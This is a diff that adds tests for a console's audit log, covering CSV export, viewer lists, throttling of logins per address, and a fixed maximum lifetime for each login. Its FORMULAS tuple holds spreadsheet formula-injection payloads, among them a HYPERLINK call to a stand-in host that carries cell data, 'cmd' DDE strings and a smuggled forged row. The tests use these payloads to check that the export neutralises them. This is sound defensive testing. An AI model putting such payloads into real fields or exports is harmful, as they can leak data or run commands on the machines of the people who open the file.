@@ -4,8 +4,12 @@ that every look at a recording lands in the audit trail."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
+import io
 import re
+import sqlite3
+import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -16,6 +20,7 @@ from starlette.testclient import TestClient
 
 from collector.app import create_app
 from collector.config import InstanceConfig, Settings
+from collector.console.auth import Auth
 from collector.control import AuditQuery, Control, User
 from collector.crypto import DataKey, Keyring, hash_password
 from collector.embedded import EmbeddedStore
@@ -316,10 +321,10 @@ def test_the_audit_log_filters_and_exports_csv(console: Console) -> None:
     assert page.status_code == 200
     assert "login" in page.text
     csv_text = client.get("/console/audit.csv", params={"action": "login"}).text
-    header, *rows = csv_text.strip().splitlines()
-    assert header.startswith("seq,at_utc,actor,action")
+    header, *rows = csv.reader(io.StringIO(csv_text))
+    assert header[:4] == ["seq", "at_utc", "actor", "action"]
     assert rows
-    assert all(",login," in row for row in rows)
+    assert all(row[3] == "login" for row in rows)
     _, broken = console.store.control.verify_audit()
     assert broken is None
 
@@ -524,3 +529,141 @@ def test_the_dev_instance_is_never_stored(tmp_path: Path) -> None:
         )
         assert refused.status_code == 409
         assert store.control.instance_docs()[1] == {}
+
+
+# -- issue 11: audit CSV, who viewed, per-address throttle, absolute login lifetime --------
+
+
+def post_login(
+    app: Any, username: str, password: str, address: str = "testclient"
+) -> tuple[TestClient, Any]:
+    """One sign-in attempt through the form, from `address`."""
+    client = TestClient(app, base_url="http://127.0.0.1", client=(address, 50000))
+    page = client.get("/login")
+    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
+    assert csrf is not None
+    done = client.post(
+        "/login",
+        data={"csrf": csrf.group(1), "username": username, "password": password},
+        follow_redirects=False,
+    )
+    return client, done
+
+
+# Typed as user names at the sign-in form (synthetic canaries): formulas that would fetch
+# or compute when the audit CSV is opened in a spreadsheet, and a forged record.
+FORMULAS = (
+    '=HYPERLINK("http://canary.test/x?"&A1,"open")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\uff1d1+1",
+    'canary\n=HYPERLINK("http://canary.test/row")\r\nforged,row',
+)
+
+
+def test_the_audit_csv_runs_no_formula_and_keeps_one_record_per_row(console: Console) -> None:
+    for index, name in enumerate(FORMULAS):
+        _, refused = post_login(console.app, name, "wrong-password-000", f"192.0.2.{index + 1}")
+        assert refused.status_code == 401
+    client = sign_in(console, "superadmin")
+    text = client.get("/console/audit.csv", params={"action": "login"}).text
+    lines = text.split("\r\n")
+    assert "\n" not in text.replace("\r\n", "")  # no record spills onto a second line
+    assert all(line.startswith('"') for line in lines if line)  # every field quoted
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == len([line for line in lines if line])
+    actors = {row[2] for row in rows[1:]}
+    for row in rows:
+        for value in row:
+            first = value.lstrip(" \u3000")[:1]
+            assert first not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" or not first, row
+    assert "'" + FORMULAS[0] in actors  # shown as text, nothing lost
+    assert "'=1+1" in actors  # the form strips the tab; the quote still comes first
+    assert 'canary\\x0a=HYPERLINK("http://canary.test/row")\\x0d\\x0aforged,row' in actors
+
+
+def test_failed_logins_naming_a_session_do_not_empty_who_viewed_it(console: Console) -> None:
+    viewer = sign_in(console, "support")
+    assert viewer.get(f"/console/api/sessions/{OTHER_SESSION}/events").status_code == 200
+    # What the review did: 200 failed sign-ins with the session id typed as the user
+    # name (each an audit record whose target is the session id), after the real view.
+    auth = Auth(Settings(), console.store.control)
+    for i in range(200):
+        auth.failed(OTHER_SESSION, f"198.51.100.{i % 250}", "unknown_user")
+    page = viewer.get(f"/console/sessions/{OTHER_SESSION}")
+    viewers = page.text.split('data-role="viewers"')[1].split("</table>")[0]
+    assert "session.view" in viewers
+    assert "support" in viewers
+    assert "Nobody yet" not in viewers
+    assert "login" not in viewers
+
+
+def throttled_console(tmp_path: Path, **limits: Any) -> tuple[Any, Control]:
+    """A console of its own (its throttle state starts empty), with `limits` set."""
+    keyring = Keyring.create(tmp_path / "keyring.json")
+    settings = Settings(data_dir=tmp_path / "var", keyring=tmp_path / "keyring.json", **limits)
+    store = EmbeddedStore(settings.data_dir)
+    for name in ("amy", "ben", "cal", "dee", "eve", "fay"):
+        store.control.add_user(User(name, "support", None, hash_password(PASSWORD)))
+    return create_app(settings, store, keyring), store.control
+
+
+def test_one_address_cannot_spray_passwords_or_lock_every_account(tmp_path: Path) -> None:
+    # About one refill in a week: the test never sees a token come back by itself.
+    app, control = throttled_console(
+        tmp_path, login_address_burst=3, login_address_per_minute=0.0001
+    )
+    with TestClient(app):
+        statuses = []
+        for name in ("amy", "ben", "cal", "dee", "eve", "fay"):
+            _, response = post_login(app, name, "Winter-2026-canary!", "203.0.113.7")
+            statuses.append(response.status_code)
+        assert statuses == [401, 401, 401, 429, 429, 429]
+        _, refused = post_login(app, "amy", PASSWORD, "203.0.113.7")  # even the right one
+        assert refused.status_code == 429
+        assert int(refused.headers["retry-after"]) > 0
+        assert "Too many sign-in attempts from your address" in refused.text
+        # Only three passwords were checked; the throttle was audited once, not per request.
+        outcomes = [r.outcome for r in control.audit_records(AuditQuery(action="login"))[0]]
+        assert sorted(outcomes) == ["bad_password"] * 3 + ["throttled"]
+        # Another address is not affected, nor any account locked by the spray.
+        _, other = post_login(app, "fay", PASSWORD, "198.51.100.20")
+        assert other.status_code == 303
+        # An IPv6 client draws from its /64's one bucket, whatever address it takes.
+        sixes = [
+            post_login(app, "ben", "wrong-password-000", f"2001:db8:7:7::{i:x}")[1].status_code
+            for i in range(1, 6)
+        ]
+        assert sixes == [401, 401, 401, 429, 429]
+
+
+def test_successful_sign_ins_do_not_use_up_the_address_budget(tmp_path: Path) -> None:
+    app, _ = throttled_console(tmp_path, login_address_burst=2, login_address_per_minute=0.0001)
+    with TestClient(app):
+        for _ in range(6):  # an office behind one address signing in all morning
+            _, done = post_login(app, "amy", PASSWORD, "203.0.113.50")
+            assert done.status_code == 303
+
+
+def test_a_login_ends_after_its_absolute_lifetime_however_active(console: Console) -> None:
+    client = sign_in(console, "support")
+    token = client.cookies["phi_console"]
+    from collector.control import token_hash
+
+    assert client.get("/console/sessions", follow_redirects=False).status_code == 200
+    now = time.time()
+    db = sqlite3.connect(console.store.control.path)
+    with db:  # signed in 13 hours ago, used a moment ago: active, but past 12 hours
+        db.execute(
+            "UPDATE logins SET created_at = ?, last_seen = ? WHERE token_hash = ?",
+            (now - 13 * 3600, now, token_hash(token)),
+        )
+    db.close()
+    ended = client.get("/console/sessions", follow_redirects=False)
+    assert ended.status_code == 303
+    assert ended.headers["location"] == "/login"
+    assert console.store.control.get_login(token_hash(token)) is None
+    outs = console.store.control.audit_records(AuditQuery(action="logout", actor="support"))[0]
+    assert outs[0].outcome == "expired"
